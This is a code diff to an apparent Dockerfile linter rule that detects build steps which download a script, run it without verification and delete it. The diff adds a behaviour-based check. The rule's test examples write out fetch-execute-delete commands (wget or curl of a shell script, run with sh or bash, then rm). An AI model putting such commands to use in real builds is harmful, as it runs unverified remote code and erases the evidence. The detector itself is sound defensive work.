@@ -1,14 +1,16 @@
 //! `self-erasing-payload`: fetched, run and deleted in one step.
 
 use crate::base::Span;
+use crate::policy::executed;
 use crate::policy::rules::fetch::download_executed_unverified::fetched;
-use crate::policy::{Found, Outline, Rule};
+use crate::policy::{Acts, Found, Outline, Rule};
 pub(in crate::policy) static RULE: Rule = Rule {
     id: "self-erasing-payload",
     title: "Fetch, execute, and `rm` the evidence in one RUN.",
     text: "Finds a step that fetches a file, runs it and deletes it, without checking it: nothing \
           of it is left to look at.",
     text_check: Some(check),
+    behaviour_check: Some(check_behaviour),
     bad: &[
         "FROM busybox\nRUN wget -q https://example.org/p.sh -O /tmp/p.sh && sh /tmp/p.sh && rm -rf /tmp/p.sh\n",
         "FROM a\nRUN cd /tmp && curl -fsSLO https://example.org/i.sh && bash i.sh && rm i.sh\n",
@@ -53,6 +55,29 @@ fn check(outline: &Outline<'_>, found: &mut Found<'_>) {
                     found.add(finding);
                     break;
                 }
+            }
+        }
+    }
+}
+
+fn check_behaviour(acts: &Acts<'_, '_>, found: &mut Found<'_>) {
+    for (act, seen) in acts.watched(found) {
+        for fetched in executed::fetched(act, seen) {
+            if seen.remains.contains(&fetched.file) {
+                continue;
+            }
+            let ran = executed::ran_unchecked(act, seen, &fetched);
+            // A package that is installed leaves what it brought.
+            if let Some(ran) = ran.filter(|ran| !ran.installed) {
+                let program = &seen.execs[ran.by];
+                let message = format!("`{}` is fetched, run and deleted", fetched.file);
+                let finding = act
+                    .finding(found, seen, Some(ran.by), message)
+                    .evidence("url", fetched.url.as_str())
+                    .evidence("file", fetched.file.as_str())
+                    .evidence("whence", format!("{:?}", program.whence).to_lowercase())
+                    .help("ADD --checksum=sha256:… URL FILE, then run the file");
+                found.add(finding);
             }
         }
     }
